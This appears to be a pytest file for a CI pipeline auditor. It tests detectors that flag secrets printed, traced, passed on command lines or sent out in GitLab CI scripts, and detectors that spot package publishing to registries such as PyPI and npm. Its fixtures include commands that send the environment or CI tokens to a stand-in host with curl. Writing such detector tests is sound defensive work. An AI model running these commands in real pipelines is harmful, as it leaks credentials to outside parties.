"""What scripts do with secrets, and what publishes with a stored token."""

from __future__ import annotations

import pytest

from auditor.views.pipeline.credentials import leaks
from auditor.views.pipeline.publishing import publications
from tests.github_made import file_of, graph_of
from tests.test_pipeline_injection import made


@pytest.mark.parametrize(
    ("command", "how"),
    [
        ('echo "$DEPLOY_TOKEN"', ["printed"]),
        ('echo "$DEPLOY_TOKEN" | base64', ["printed"]),
        ('echo "$DEPLOY_TOKEN" | docker login --password-stdin', []),
        ('echo "$DEPLOY_TOKEN" > file', []),
        ('x=$(echo "$DEPLOY_TOKEN" | cut -c1)', []),
        ("echo ${#DEPLOY_TOKEN}", []),
        ('echo "${DEPLOY_TOKEN:+set}"', []),
        ('echo "$CI_COMMIT_TAG"', []),
        ("set -x; ./deploy $DEPLOY_TOKEN", ["traced"]),
        ("./deploy $DEPLOY_TOKEN", []),
        ('docker login -u ci -p "$DEPLOY_TOKEN"', ["spoken"]),
        ('mysql -p"$DB_PASSWORD" -e x', ["spoken"]),
        ('curl -u "ci:$DEPLOY_TOKEN" https://x.example', ["spoken"]),
        ('curl --data "$CI_JOB_JWT" https://x.example', ["sent"]),
        ("env | curl --data-binary @- https://x.example", ["sent"]),
        ('curl "https://x.example?key=$API_TOKEN"', ["sent"]),
        ('curl -H "Authorization: $API_TOKEN" https://x.example', []),
        ("cat report | curl --data-binary @- https://x.example", []),
    ],
)
def test_leaks(command: str, how: list[str]) -> None:
    text = f"test:\n  script:\n    - |\n      {command}\n"
    assert [it.how for it in leaks(*made(".gitlab-ci.yml", text))] == how


def test_secrets_of_github_are_what_the_file_says() -> None:
    text = "on: push\njobs: {a: {runs-on: x, steps: [{run: 'echo $A $TOKEN', env: {A: '${{ secrets.A }}', TOKEN: plain}}]}}\n"
    assert [it.text for it in leaks(*made(".github/workflows/main.yml", text))] == ["$A"]


@pytest.mark.parametrize(
    ("step", "registry"),
    [
        ("run: twine upload dist/*", "PyPI"),
        ("run: python3.12 -m twine upload dist/*", "PyPI"),
        ("run: pipx run twine==6.1.0 upload dist/*", "PyPI"),
        ("run: uv publish", "PyPI"),
        ("run: cargo +nightly publish", "crates.io"),
        ("run: bundle exec gem push x.gem", "RubyGems"),
        ("run: yarn npm publish", "npm"),
        ("run: dotnet nuget push x --source https://api.nuget.org/v3/index.json", "NuGet"),
        ("run: npm publish --dry-run", ""),
        ("run: npm publish --registry=https://npm.example.org", ""),
        ("run: npm run publish", ""),
        ("run: echo npm publish", ""),
        ("{uses: pypa/gh-action-pypi-publish@v1, with: {password: x}}", "PyPI"),
        ("{uses: pypa/gh-action-pypi-publish@v1, with: {password: x, repository-url: https://x.example}}", ""),
        ("uses: pypa/gh-action-pypi-publish@v1", ""),
    ],
)
def test_publications(step: str, registry: str) -> None:
    graph = graph_of({".github/workflows/main.yml": f"on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - {step}\n"})
    assert [it.registry for it in publications(file_of(graph), graph)] == ([registry] if registry else [])


def test_a_job_that_may_identify_itself_needs_no_token() -> None:
    text = "on: push\npermissions: {id-token: write}\njobs: {a: {runs-on: x, steps: [{run: npm publish}]}}\n"
    assert list(publications(*made(".github/workflows/main.yml", text))) == []
